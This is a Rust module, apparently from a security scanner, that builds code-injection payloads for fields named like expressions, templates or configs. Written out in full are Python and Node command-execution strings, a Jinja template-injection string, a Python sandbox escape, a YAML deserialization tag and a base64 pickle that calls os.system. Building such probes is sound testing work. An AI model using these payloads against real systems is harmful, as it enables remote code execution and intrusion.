//! Texts that run a program of ours where they are evaluated as code or as a template, or read as a document that may make
//! objects of any kind.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;

use super::aim::Aim;
use super::ground::Ground;
use super::payload::Payload;
use super::place::{Place, Purpose};
use wallfacer_text::lexicon::words;

/// Words of arguments that are evaluated, though nobody means to run a program by them.
const EVALUATED: [&str; 14] = [
    "calculation",
    "condition",
    "equation",
    "expr",
    "expression",
    "expressions",
    "formula",
    "function",
    "jsonpath",
    "math",
    "predicate",
    "template",
    "transform",
    "where",
];
/// Of these, words of arguments that are numbers to be worked out.
const CALCULATED: [&str; 7] =
    ["calculation", "equation", "expr", "expression", "expressions", "formula", "math"];
/// Words of arguments that hold a document.
const DOCUMENT: [&str; 8] =
    ["config", "configuration", "definition", "document", "manifest", "pickle", "spec", "yaml"];

/// Whether a text is likely to be calculated.
pub(super) fn is_calculated(place: &Place) -> bool {
    place.purpose != Purpose::Number
        && words(&place.name).iter().any(|word| CALCULATED.contains(&word.as_str()))
}

/// What runs a program in the languages that servers are written in, within and without quotes.
pub fn codes(place: &Place, ground: &Ground) -> Vec<Payload> {
    let named = words(&place.name);
    let is = |list: &[&str]| named.iter().any(|word| list.contains(&word.as_str()));
    let rank = match place.purpose {
        Purpose::Program | Purpose::Number => return Vec::new(),
        _ if is(&EVALUATED) => 0,
        _ if is(&DOCUMENT) => 1,
        Purpose::Unknown | Purpose::Pattern | Purpose::Statement => 2,
        _ => 3,
    };
    let program = &ground.program;
    let script = format!("process.getBuiltinModule('child_process').execFileSync('{program}')");
    let quoted = script.replace('\'', "\\\"");
    let python = format!("__import__('os').system('{program}')");
    let chained = format!(
        "().__class__.__base__.__subclasses__()[-1].__init__.__globals__['__builtins__']['__import__']('os').system('{program}')"
    );
    let pickle = BASE64.encode(format!("cos\nsystem\n(S'{program}'\ntR."));
    let written = [
        ("an expression of Python", python.clone()),
        ("an expression of JavaScript", script.clone()),
        (
            "a template with braces",
            format!("{{{{ cycler.__init__.__globals__.os.popen('{program}').read() }}}}"),
        ),
        ("a template with a dollar sign", format!("${{{script}}}")),
        ("a constructor of functions", format!("[].constructor.constructor(\"return {quoted}\")()")),
        ("a function's constructor", format!("cos.constructor(\"return {quoted}\")()")),
        ("a quote and an expression of JavaScript", format!("'+{script}+'")),
        ("a double quote and an expression of JavaScript", format!("\"+{script}+\"")),
        ("a quote and an expression of Python", format!("'+str({python})+'")),
        ("a parenthesis and an expression of JavaScript", format!("1);{script};(1")),
        ("a document that makes objects", format!("!!python/object/apply:os.system [\"{program}\"]")),
        ("an expression without names", chained),
        ("a template with signs of percent", format!("<%= {script} %>")),
        ("an expression of Ruby", format!("#{{system('{program}')}}")),
        ("an object that was packed by Python", pickle),
    ];
    let aim = || Aim::Execute { program: program.clone() };
    written.into_iter().map(|(way, text)| Payload::one(way, aim(), text, rank)).collect()
}
